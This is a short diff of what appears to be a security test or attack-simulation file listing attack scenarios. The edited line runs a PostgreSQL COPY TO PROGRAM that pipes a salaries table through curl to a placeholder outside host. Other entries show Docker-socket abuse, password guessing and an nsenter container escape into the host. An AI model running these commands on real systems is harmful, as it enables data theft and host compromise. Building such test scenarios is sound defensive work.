@@ -121,7 +121,7 @@ ATTACKS = (
     run("container made through the Docker socket", "batch", SOCKET),
     by("shell", "passwords of the database guessed", "portal", GUESSES),
     by("sql", "salaries sent away by a program of the database", "database",
-       f"COPY salaries TO PROGRAM $p$curl -s -m 3 -H Expect: -T - http://{OUTSIDE}/in # {TOKEN}$p$", reached=("database",)),
+       f"COPY salaries TO PROGRAM $p$curl -s -m 3 -o /dev/null -H Expect: -T - http://{OUTSIDE}/in # {TOKEN}$p$", reached=("database",)),
     Attack("container of the attacker's enters the host", "rogue", "container",
            ("sleep 1; nsenter -t 1 -m -u -n cat /etc/hostname", "--pid", "host", *POWERS), starts=True),
     run("hook of the package manager", "batch", HOOK, (r"05periodic", OUTSIDE), lasts=True),
